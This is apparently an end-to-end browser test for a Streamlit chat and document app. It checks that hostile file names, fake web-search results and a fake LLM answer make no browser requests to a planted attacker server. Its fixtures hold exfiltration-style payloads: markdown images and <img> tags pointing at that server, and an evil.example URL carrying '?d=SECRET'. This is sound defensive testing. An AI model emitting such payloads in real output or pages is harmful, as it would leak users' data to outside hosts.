"""Data never makes the browser fetch anything (issue 9, item 3), in Debian's chromium.

A file uploaded under a hostile name and a web result with a hostile URL, title and text, through `streamlit
run`, the Documents, Chat and Trace pages. Every request the page makes is recorded; none may reach the
planted address, and none may leave the Streamlit server.
"""

from __future__ import annotations

import http.server
import threading
from urllib.parse import urlsplit

import pytest

from tests.e2e.conftest import ARTIFACTS, Server, needs_chromium, new_page

pytestmark = [pytest.mark.browser, needs_chromium]
QUESTION = "What is the boiling point of tungsten?"


class Planted:
    """An HTTP server on 127.0.0.1 that counts every request made to it (the attacker's)."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def shows(page, text: str) -> None:
    """Wait until the page shows ``text`` as written.

    (ignoring the invisible word joiners that keep GFM from autolinking URLs).
    """
    page.wait_for_function("t => document.body.innerText.replaceAll('\\u2060', '').includes(t)",
                           arg=text)


@pytest.fixture
def planted():
    server = Planted()
    yield server
    server.stop()


@pytest.fixture
def hostile_web(planted, monkeypatch):
    """The LLM engine on the fake OpenAI server, with an answer that holds an image, HTML and a link.

    And a fake Tavily whose one result has a hostile URL, title and text.
    """
    from tests.fakes.servers import FakeOpenAI, FakeTavily, Reply, default_script

    leak = f"http://127.0.0.1:{planted.port}"

    def script(kind: str, body: dict) -> Reply:
        if kind in ("stream", "text"):
            return Reply(f"Tungsten boils at 5,930 degrees Celsius [1]. ![y]({leak}/answer) "
                         f"<img src={leak}/answer-html>")
        return default_script(kind, body)

    llm = FakeOpenAI(script=script).start()
    server = FakeTavily(results=[{
        "url": f"https://evil.example/a)![x]({leak}/url?d=SECRET",
        "title": f"![t]({leak}/title)",
        "content": (f"Tungsten boils at 5,930 degrees Celsius. ![y]({leak}/text) "
                    f"<img src={leak}/html> [click]({leak}/link) {leak}/bare"),
        "score": 0.9}]).start()
    for name, value in (("TAVILY_API_KEY", "tvly-test-hostile"),
                        ("TAVILY_API_BASE_URL", server.base_url),
                        ("OPENAI_API_KEY", "sk-test-hostile"), ("OPENAI_BASE_URL", llm.base_url),
                        ("RAG_EMBEDDING_MODEL", "hashing")):
        monkeypatch.setenv(name, value)
    yield server
    server.stop()
    llm.stop()


@pytest.fixture
def app(tmp_path, hostile_web):
    server = Server(tmp_path / "data", tmp_path / "streamlit.log")  # inherits the Tavily env
    yield server
    server.stop()


def test_hostile_names_and_urls_make_no_request(app, planted, hostile_web, browser):
    ARTIFACTS.mkdir(exist_ok=True)
    context, page, _ = new_page(browser)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    name = f"![x](http://127.0.0.1:{planted.port}/name).md"

    # Documents: upload a file under the hostile name and index it; then a later visitor.
    # (The app is opened at its root first: until app.py has run st.navigation once, Streamlit
    # serves /documents as a bare app_pages/documents.py, without the app's sidebar.)
    page.goto(app.url)
    page.get_by_role("heading", name="Chat").wait_for()
    page.goto(f"{app.url}/documents")
    page.locator("input[type=file]").first.set_input_files(files=[{
        "name": name, "mimeType": "text/markdown",
        "buffer": b"# Garden\n\nRoses need sun, water and a little patience.\n"}])
    page.get_by_role("button", name="Index files").click()
    page.get_by_text("ingested 1 page", exact=False).first.wait_for()
    shows(page, f"{name}: ingested 1 page")  # the name, shown as written
    page.goto(f"{app.url}/documents")
    page.get_by_text(" over 1 page", exact=False).first.wait_for()
    page.get_by_role("button", name="Delete").first.click()  # the popover names the file too
    page.get_by_text("This removes", exact=False).first.wait_for()
    page.wait_for_timeout(1000)
    page.screenshot(path=str(ARTIFACTS / "browser-hostile-documents.png"), full_page=True)

    # Chat: the knowledge base has no answer, the (fake) web search returns the hostile result.
    page.goto(app.url)
    box = page.get_by_placeholder("Ask about your documents")
    box.fill(QUESTION)
    box.press("Enter")
    page.get_by_role("button", name="Open trace").first.wait_for(timeout=120_000)
    assert hostile_web.requests, "the graph never searched the web"
    # The page reruns once the answer is saved; open the sources only once it is idle, and count
    # them afresh, so a rerun between counting and clicking cannot leave a stale locator.
    page.locator("[data-testid=stStatusWidget]").wait_for(state="hidden", timeout=120_000)
    summaries = page.locator("[data-testid=stExpander] summary")
    for i in range(summaries.count()):
        if i < summaries.count():
            summaries.nth(i).click()  # open every source
    shows(page, hostile_web.results[0]["url"])
    page.wait_for_timeout(1000)
    page.screenshot(path=str(ARTIFACTS / "browser-hostile-chat.png"), full_page=True)

    # Trace: the run's steps, sources and events.
    page.get_by_role("button", name="Open trace").first.click()
    page.locator(".js-plotly-plot").first.wait_for()
    page.wait_for_timeout(2000)
    page.screenshot(path=str(ARTIFACTS / "browser-hostile-trace.png"), full_page=True)
    context.close()

    assert planted.hits == [], planted.hits
    assert not [u for u in requests if f":{planted.port}" in u], requests
    hosts = {(p.hostname, p.port) for p in map(urlsplit, requests)
             if p.scheme in ("http", "https", "ws", "wss")}
    assert hosts == {("127.0.0.1", app.port)}, [u for u in requests if "127.0.0.1" not in u]
